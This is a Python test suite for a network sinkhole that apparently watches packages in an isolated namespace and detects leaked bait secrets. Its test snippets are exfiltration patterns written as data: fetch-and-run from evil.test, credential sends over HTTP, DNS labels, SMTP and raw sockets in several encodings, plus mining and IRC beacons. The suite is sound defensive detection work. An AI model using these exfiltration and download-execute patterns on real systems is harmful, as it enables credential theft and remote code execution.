"""The sinkhole as packages meet it: clients are processes in a network namespace of this test's own. Needs root."""

import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest
from unittest import mock

import paths  # noqa: F401
import baits
import sinkhole
import sinkhole_network
import sinkhole_payloads

NEW_NETWORK, NEW_MOUNTS = 0x40000000, 0x00020000
BAITS = baits.make(b"sinkhole tests")[0]
SECRETS = {bait.id: [secret.decode("latin-1") for secret in bait.secrets] for bait in BAITS}
TWIN = {bait.id: [secret.decode("latin-1") for secret in bait.secrets] for bait in baits.make.__wrapped__(b"another job")[0]}
PRELUDE = """
import base64, gzip, json, os, socket, ssl, struct, sys, urllib.request
S = json.loads(sys.argv[1])
socket.setdefaulttimeout(10)
def get(url, data=None, **headers):
    return urllib.request.urlopen(urllib.request.Request(url, data, headers)).read()
def ask(server, name, kind=1, tcp=False, family=socket.AF_INET):
    query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
    if tcp:
        s = socket.create_connection((server, 53)); s.sendall(struct.pack(">H", len(query)) + query); return s.recv(4096)[2:]
    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(query, (server, 53)); return s.recv(4096)
"""


class InNamespace(unittest.TestCase):
    tunnel = True

    @classmethod
    def setUpClass(cls):
        if os.getuid() != 0:
            raise unittest.SkipTest("network namespaces need root")
        cls.libc = ctypes.CDLL(None, use_errno=True)
        cls.saved = [os.open(f"/proc/self/ns/{kind}", os.O_RDONLY) for kind in ("net", "mnt")]
        cls.place, cls.folder = os.getcwd(), tempfile.mkdtemp()
        if cls.libc.unshare(NEW_NETWORK | NEW_MOUNTS) != 0:
            raise unittest.SkipTest("no network namespaces here")
        cls.libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
        resolver = f"{cls.folder}/resolv.conf"
        with open(resolver, "w", encoding="ascii") as file:
            file.write("nameserver 10.0.2.3\noptions timeout:3 attempts:2\n")
        cls.libc.mount(resolver.encode(), os.path.realpath("/etc/resolv.conf").encode(), None, 4096, None)

    @classmethod
    def tearDownClass(cls):
        for descriptor in cls.saved:
            if cls.libc.setns(descriptor, 0) != 0:
                raise RuntimeError("cannot go back to the first namespace")
            os.close(descriptor)
        os.chdir(cls.place)
        shutil.rmtree(cls.folder)

    def setUp(self):
        self.begin()
        self.addCleanup(lambda: self.hole.stop())

    def begin(self):
        problem = OSError("no TUN device for this test")
        with mock.patch.object(sinkhole_network, "_open_tunnel", **({} if self.tunnel else {"side_effect": problem})) as opened:
            if self.tunnel:
                opened.side_effect = ORIGINAL_TUNNEL
            self.hole = sinkhole.Sinkhole.start(BAITS, f"{self.folder}/private", f"{self.folder}/ca.pem")

    def client(self, code, secrets=SECRETS, wait=True):
        environment = {"PATH": os.environ["PATH"], "LANG": "C.UTF-8", **self.hole.env}
        process = subprocess.Popen(
            [sys.executable, "-S", "-c", PRELUDE + code, json.dumps(secrets)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment
        )
        if not wait:
            return process
        out, problem = process.communicate(timeout=60)
        self.assertEqual(process.returncode, 0, problem)
        return out

    def events(self, code, secrets=SECRETS, dns=False):
        self.client(code, secrets)
        return [event for event in self.hole.collect()["events"] if dns or event["kind"] != "dns"]

    def leaks(self, code):
        """The baits that left; the benign twin of the same behaviour must leave none."""
        found = {word for event in self.events(code, dns=True) for word in event.get("baits", "").split()}
        twin = [event["baits"] for event in self.events(code, TWIN, dns=True) if "baits" in event]
        self.assertEqual(twin, [])
        return found


ORIGINAL_TUNNEL = sinkhole_network._open_tunnel


class Behaviours(InNamespace):
    def test_download_then_execute(self):
        mark = sinkhole_payloads.MARK_FILE
        if os.path.exists(mark):
            os.unlink(mark)
        events = self.events("import subprocess; subprocess.run(['sh', '-c', get('http://evil.test/install.sh').decode()], check=True)")
        self.assertTrue(os.path.exists(mark))
        os.unlink(mark)
        self.assertEqual(events, [{"kind": "tcp", "to": "evil.test", "port": "80", "protocol": "http", "method": "GET", "path": "/install.sh",
                                   "served": "script", "body": "none", "size": "none", "count": "once"}])  # fmt: skip
        out = self.client(f"open('{self.folder}/p', 'wb').write(get('http://evil.test/agent.elf'))\nos.chmod('{self.folder}/p', 0o755)\n"
                          f"os.system('{self.folder}/p')")  # fmt: skip
        self.assertEqual(out, "pyti-marker\n")
        os.unlink(mark)

    def test_https_posts_are_read(self):
        code = "get('https://hooks.test/v1/collect', ('user=sam&key=' + S['netrc'][0]).encode())"
        self.assertEqual(self.leaks(code), {"netrc:plain"})
        event = self.events(code)[0]
        self.assertEqual((event["protocol"], event["method"], event["path"], event["body"], event["served"], event["baits"]),
                         ("https", "POST", "/v1/collect", "form", "json", "netrc:plain"))  # fmt: skip

    def test_https_to_an_address_and_with_another_name(self):
        code = "get('https://192.0.2.5:8443/x.json')\n"
        code += "c = ssl.create_default_context(cafile=os.environ['REQUESTS_CA_BUNDLE'])\n"
        code += "s = c.wrap_socket(socket.create_connection(('front.test', 443)), server_hostname='front.test')\n"
        code += "s.sendall(b'GET /hidden HTTP/1.1\\r\\nHost: back.test\\r\\nConnection: close\\r\\n\\r\\n'); s.recv(9)"
        events = self.events(code)
        self.assertEqual({(event["to"], event["port"], event.get("host")) for event in events},
                         {("192.0.2.5", "8443", None), ("front.test", "443", "back.test")})  # fmt: skip

    def test_a_client_that_pins_its_own_certificates(self):
        code = "s = socket.create_connection(('192.0.2.9', 443))\ntry:\n ssl.create_default_context(cadata=open(os.devnull).read() or None, "
        code += "cafile='/etc/ssl/certs/ca-certificates.crt').wrap_socket(s, server_hostname='pinned.test')\nexcept ssl.SSLError: print('refused')"
        if not os.path.exists("/etc/ssl/certs/ca-certificates.crt"):
            self.skipTest("no certificates here")
        self.assertEqual(self.client(code), "refused\n")
        event = self.hole.collect()["events"][0]
        self.assertEqual((event["to"], event["protocol"], event["state"]), ("pinned.test", "tls", "refused"))

    def test_leaks_in_many_wraps(self):
        wraps = {
            "base64": "base64.b64encode(v)", "gzip": "gzip.compress(v)", "hex": "v.hex().encode()", "xor": "bytes(b ^ 33 for b in v)",
            "base64+gzip": "base64.b64encode(gzip.compress(v))", "reversed": "v[::-1]",
        }  # fmt: skip
        for encoding, code in wraps.items():
            for send in ("get('http://x.test/u', w)", "get('https://x.test/u', w)", "s = socket.create_connection(('203.0.113.4', 4444)); s.sendall(w); s.close()",
                         "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(w, ('198.51.100.4', 9999))"):  # fmt: skip
                found = self.leaks(f"v = ('abc=' + S['cloud-env'][1] + '&').encode(); w = {code}\n{send}")
                self.assertEqual(found, {f"cloud-env:{encoding}"}, send)

    def test_chunked_body_query_and_header(self):
        code = "import http.client\nc = http.client.HTTPConnection('x.test')\nv = S['dotenv'][0].encode()\n"
        code += "c.request('PUT', '/u', (v[i:i+5] for i in range(0, len(v), 5)), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})\nc.getresponse()"
        self.assertEqual(self.leaks(code), {"dotenv:plain"})
        self.assertEqual(self.leaks("get('http://x.test/?d=' + S['wallet'][0])"), {"wallet:plain"})
        self.assertEqual(self.leaks("get('http://x.test/', Cookie='s=' + S['npm-token-env'][0])"), {"npm-token-env:plain"})
        self.assertEqual(self.events("get('http://x.test/?d=' + S['wallet'][0])")[0]["path"], "/?d={...}")

    def test_a_key_in_pieces(self):
        code = "v = S['api-key-env'][0].encode().hex()\nfor i in range(0, len(v), 12): get(f'http://x.test/c?i={i}&d={v[i:i+12]}')"
        self.assertEqual(self.leaks(code), {"api-key-env:hex"})
        code = "v = S['netrc'][0]\nfor i in range(0, len(v), 3): get('http://x.test/c', v[i:i+3].encode())"
        self.assertEqual(self.leaks(code), {"netrc:plain"})
        code = "v = S['netrc'][0].encode()\nfor i in range(0, len(v), 4):\n s = socket.create_connection(('192.0.2.1', 7)); s.sendall(v[i:i+4]); s.close()"
        self.assertEqual(self.leaks(code), {"netrc:plain"})

    def test_labels_of_names(self):
        code = "v = S['ssh-key'][1].encode('latin-1').hex()\nfor i in range(0, len(v), 16):\n socket.getaddrinfo(f'{i}-{v[i:i+16]}.x.evil.test', 80)"
        code = code.replace("{i}-{v", "{i}.{v")
        self.assertEqual(self.leaks(code), {"ssh-key:hex"})
        code = "v = base64.b32encode(S['git-credentials'][0].encode()).decode().rstrip('=').lower()\nfor i in range(0, len(v), 30): ask('192.0.2.53', v[i:i+30] + '.evil.test', 16)"
        self.assertEqual(self.leaks(code), {"git-credentials:base32"})
        events = self.events(code, dns=True)
        self.assertIn({"kind": "dns", "to": "{...}.evil.test", "type": "TXT", "resolver": "192.0.2.53", "count": "few"}, events)

    def test_resolvers_of_ones_own(self):
        self.client("for a, t in (('198.51.100.8', False), ('198.51.100.9', True)): assert ask(a, 'c2.evil.test', tcp=t)[-4:-2] in (b'\\xc6\\x12', b'\\xc6\\x13')\n"
                    "q = ask.__code__ and struct.pack('>HHHHHH', 0, 256, 1, 0, 0, 0) + b'\\2c3\\4test\\0\\0\\1\\0\\1'\n"
                    "assert get('https://doh.test/dns-query', q, **{'Content-Type': 'application/dns-message'})[-4:-2] in (b'\\xc6\\x12', b'\\xc6\\x13')\n"
                    "assert json.loads(get('https://doh.test/resolve?name=c4.test&type=A'))['Answer'][0]['data'].startswith('198.1')")  # fmt: skip
        found = {(event["to"], event.get("resolver")) for event in self.hole.collect()["events"] if event["kind"] == "dns"}
        self.assertLessEqual({("c2.evil.test", "198.51.100.8"), ("c2.evil.test", "198.51.100.9"), ("c3.test", "doh.test"), ("c4.test", "doh.test")}, found)

    def test_names_that_do_not_exist(self):
        self.client("try: socket.getaddrinfo('x.invalid', 1); sys.exit(1)\nexcept socket.gaierror: pass")

    def test_metadata_service(self):
        base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        code = f"r = get('{base}'); v = json.loads(get('{base}' + r.decode()))\nget('http://x.test/s', json.dumps(v).encode())"
        events = self.events(code)
        served = {event["served"] for event in events if event["to"] == "169.254.169.254"}
        self.assertEqual(served, {"metadata", "metadata-credential"})
        self.assertEqual([event["baits"] for event in events if event["to"] == "x.test"], ["metadata-credential:plain"])

    def test_mail_with_and_without_tls(self):
        for start in ("s = smtplib.SMTP('mail.test', 587); s.starttls(context=ssl.create_default_context())", "s = smtplib.SMTP('mail.test', 25)",
                      "s = smtplib.SMTP_SSL('mail.test', 465, context=ssl.create_default_context())"):  # fmt: skip
            code = f"import smtplib\n{start}\ns.login('user', 'pass')\ns.sendmail('a@x.test', ['b@x.test'], 'Subject: x\\n\\n' + S['document-contract'][0])\ns.quit()"
            self.assertEqual(self.leaks(code), {"document-contract:plain"})

    def test_other_protocols(self):
        self.client("import ftplib\nf = ftplib.FTP('files.test'); f.login('u', 'p'); f.quit()")
        self.client("s = socket.create_connection(('pool.test', 14444)); s.sendall(b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n'); s.recv(99)")
        self.client("s = socket.create_connection(('203.0.113.6', 6667)); s.sendall(b'NICK bot\\r\\nUSER bot 0 * :bot\\r\\n'); s.recv(99)")
        self.client("s = socket.create_connection(('203.0.113.7', 22)); assert s.recv(99).startswith(b'SSH-2.0'); s.sendall(b'SSH-2.0-x\\r\\n')")
        self.client("s = socket.create_connection(('203.0.113.8', 4444)); s.close()")
        events = [event for event in self.hole.collect()["events"] if event["kind"] == "tcp"]
        self.assertEqual({(event["to"], event["port"], event["protocol"], event["first"]) for event in events},
                         {("files.test", "21", "ftp", "login"), ("pool.test", "14444", "stratum", "stratum"), ("203.0.113.6", "6667", "irc", "irc"),
                          ("203.0.113.7", "22", "ssh", "ssh"), ("203.0.113.8", "4444", "tcp", "none")})  # fmt: skip

    def test_this_machine_stays_as_it_was(self):
        code = """
import threading, http.server
get("http://x.test:8000/a")
keep = socket.create_connection(("x.test", 8000))
for address in ("127.0.0.1", "10.0.2.15"):
    try:
        socket.create_connection((address, 8000)); sys.exit("a closed port answered")
    except ConnectionRefusedError:
        pass
server = http.server.ThreadingHTTPServer(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
again = socket.socket(); again.bind(("127.0.0.1", 8080)); again.listen()
assert urllib.request.urlopen("http://127.0.0.1:8000/").status == 200
one, two = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.bind(("127.0.0.1", 0)); two.sendto(b"own", one.getsockname()); assert one.recv(9) == b"own"
assert keep.getsockname()[0] == "10.0.2.15" and keep.getpeername()[1] == 8000
"""
        events = self.events(code)
        self.assertEqual({(event["to"], event["port"]) for event in events}, {("x.test", "8000")})

    def test_big_transfers(self):
        code = "get('http://x.test/up', os.urandom(1) * 8_000_000 + S['netrc'][0].encode())"
        self.assertEqual(self.leaks(code), {"netrc:plain"})
        self.assertEqual(self.events(code)[0]["size"], "large")

    def test_each_phase_has_its_own(self):
        process = self.client("s = socket.create_connection(('192.0.2.1', 9000)); s.sendall(b'one'); print('x', flush=True)\n"
                              "sys.stdin = open('/proc/self/fd/0')\nimport time\n"
                              f"while not os.path.exists('{self.folder}/go'): time.sleep(0.01)\n"
                              "s.sendall(S['netrc'][0].encode()); print('y', flush=True); time.sleep(60)", wait=False)  # fmt: skip
        self.addCleanup(process.communicate)
        self.addCleanup(process.kill)
        process.stdout.readline()
        first = self.hole.collect()["events"]
        self.assertEqual([(event["first"], event.get("baits")) for event in first], [("text", None)])
        with open(f"{self.folder}/go", "w", encoding="ascii"):
            pass
        process.stdout.readline()
        os.unlink(f"{self.folder}/go")
        second = self.hole.collect()["events"]
        self.assertEqual([event.get("baits") for event in second], ["netrc:plain"])
        self.assertEqual(self.hole.collect()["events"], [])

    def test_two_runs_are_equal(self):
        code = """
import threading, uuid, time
def work(n):
    get(f"http://api.test/v1/{uuid.uuid4()}?t={time.time_ns()}"); get("https://api.test/up", os.urandom(5000) * 2)
    ask("192.0.2.53", os.urandom(9).hex() + ".evil.test"); socket.create_connection(("192.0.2.1", 9000 + n % 3)).sendall(b"hello " + os.urandom(3).hex().encode())
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hi", ("192.0.2.7", 1234))
threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
[t.start() for t in threads]; [t.join() for t in threads]
get("http://x.test/u", S["netrc"][0].encode())
"""
        first = self.events(code, dns=True)
        self.hole.stop()
        self.begin()
        self.assertEqual(self.events(code, dns=True), first)
        self.assertEqual(len(first), 10)

    def test_floods(self):
        begun = time.monotonic()
        code = """
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20000): u.sendto(b"x" * 100, (f"198.51.100.{i % 250}", i % 60000 + 1))
for i in range(600):
    s = socket.create_connection(("192.0.2.1", i + 1)); s.close()
open_ones = [socket.create_connection(("192.0.2.2", 80)) for _ in range(700)]
for s in open_ones: s.send(b"G")
for i in range(1000): socket.gethostbyname(f"n{i}.flood.test")
get("http://x.test/u", S["netrc"][0].encode())
"""
        self.client("import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))" + code)
        result = self.hole.collect()
        self.assertEqual([(event["to"], event["baits"]) for event in result["events"] if "baits" in event], [("x.test", "netrc:plain")])
        self.assertGreater(result["omitted"], 10000)
        self.assertLess(len(json.dumps(result)), 400_000)
        self.assertLess(time.monotonic() - begun, 60)

    def test_garbage(self):
        code = """
import random
r = random.Random(7)
shapes = [b"", b"\\x16\\x03\\x01", b"\\x16\\x03\\x01\\x02\\x00\\x01", b"GET ", b"POST / HTTP/1.1\\r\\nContent-Length: 99999999999999999\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n" + b"a: b\\r\\n" * 20000,
          b"POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n", b"POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n-5\\r\\n", b"\\r\\n" * 999, b"CONNECT x.test:99999 HTTP/1.1\\r\\n\\r\\n",
          b"GET http://[::bad/ HTTP/1.1\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: [x\\r\\n\\r\\n", b"GET /dns-query?dns=!!! HTTP/1.1\\r\\n\\r\\n", b"GET /resolve?name=.%00 HTTP/1.1\\r\\n\\r\\n"]
for port in (80, 443, 25, 53, 21, 143, 6379, 12345):
    for shape in shapes:
        s = socket.create_connection(("192.0.2.3", port))
        try:
            s.sendall(shape + r.randbytes(r.choice((0, 1, 50, 3000)))); s.settimeout(0.02); s.recv(10)
        except OSError: pass
        s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for size in range(300): u.sendto(r.randbytes(size), ("192.0.2.3", 53)); u.sendto(r.randbytes(size), ("192.0.2.3", 5353))
assert get("https://x.test/a.json") == b"{}"
"""
        events = self.events(code)
        self.assertIn("x.test", {event["to"] for event in events})
        self.assertFalse([event for event in events if "baits" in event])

    def test_package_code_cannot_end_it(self):
        child = os.fork()
        if child == 0:
            try:
                os.setgid(65534)
                os.setuid(65534)
                os.kill(self.hole.pid, signal.SIGKILL)
            except PermissionError:
                os._exit(7)
            finally:
                os._exit(1)
        self.assertEqual(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), 7)
        self.assertEqual(self.hole.collect(), {"events": [], "evidence": [], "omitted": 0})

    def test_its_own_door_is_no_way_in(self):
        events = self.events("s = socket.create_connection(('10.0.2.15', 1)); assert s.recv(9) == b''")
        self.assertEqual([(event["to"], event["protocol"]) for event in events], [("sinkhole", "none")])

    def test_a_secret_as_a_name_of_its_own(self):
        self.assertEqual(self.leaks("socket.gethostbyname(S['netrc'][0] + '.test')"), {"netrc:plain"})

    def test_a_proxys_client(self):
        code = "import http.client\nc = http.client.HTTPSConnection('203.0.113.9', 3128, context=ssl.create_default_context())\n"
        code += "c.set_tunnel('behind.test', 443)\nc.request('POST', '/p', S['netrc'][0])\nc.getresponse()"
        self.assertEqual(self.leaks(code), {"netrc:plain"})
        self.assertEqual({(event["to"], event["served"]) for event in self.events(code)}, {("203.0.113.9", "tunnel"), ("behind.test", "json")})

    def test_its_start_may_fail(self):
        with mock.patch.object(sinkhole_network, "open_link", side_effect=OSError("no network here")):
            with self.assertRaisesRegex(RuntimeError, "no network here"):
                sinkhole.Sinkhole.start(BAITS, f"{self.folder}/private", f"{self.folder}/ca.pem")

    def test_its_death_is_told(self):
        os.kill(self.hole.pid, signal.SIGKILL)
        self.assertEqual([event["kind"] for event in self.hole.collect()["events"]], ["sinkhole-lost"])

    def test_it_keeps_no_descriptor_of_the_agent(self):
        held = {os.readlink(f"/proc/{self.hole.pid}/fd/{name}").split(":")[0] for name in os.listdir(f"/proc/{self.hole.pid}/fd")}
        self.assertLessEqual(held, {"/dev/null", "socket", "anon_inode", "/dev/net/tun"})


class BehavioursWithoutTunnel(Behaviours):
    tunnel = False


class SixthVersion(InNamespace):
    def test_names_and_addresses(self):
        if not os.path.exists("/proc/sys/net/ipv6") or sinkhole_network.DEVICE not in dict(socket.if_nameindex()).values():
            self.skipTest("no IPv6 or no TUN device here")
        self.assertTrue(self.hole.ipv6)
        code = "get('http://[2001:db8::5]:8080/a', S['netrc'][0].encode())\nassert ask('2001:db8::53', 'six.test', 28, family=socket.AF_INET6)[-16:-12] == bytes.fromhex('20010002')\n"
        code += "a = socket.getaddrinfo('six.test', 443, socket.AF_INET6)[0][4][0]; s = socket.create_connection((a, 443)); s.sendall(b'hello'); s.close()\n"
        code += "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::6', 999))"
        events = self.events(code)
        self.assertEqual({(event["kind"], event["to"], event["port"], event.get("baits")) for event in events},
                         {("tcp", "2001:db8::5", "8080", "netrc:plain"), ("tcp", "six.test", "443", None), ("udp", "2001:db8::6", "999", None)})  # fmt: skip


if __name__ == "__main__":
    unittest.main()
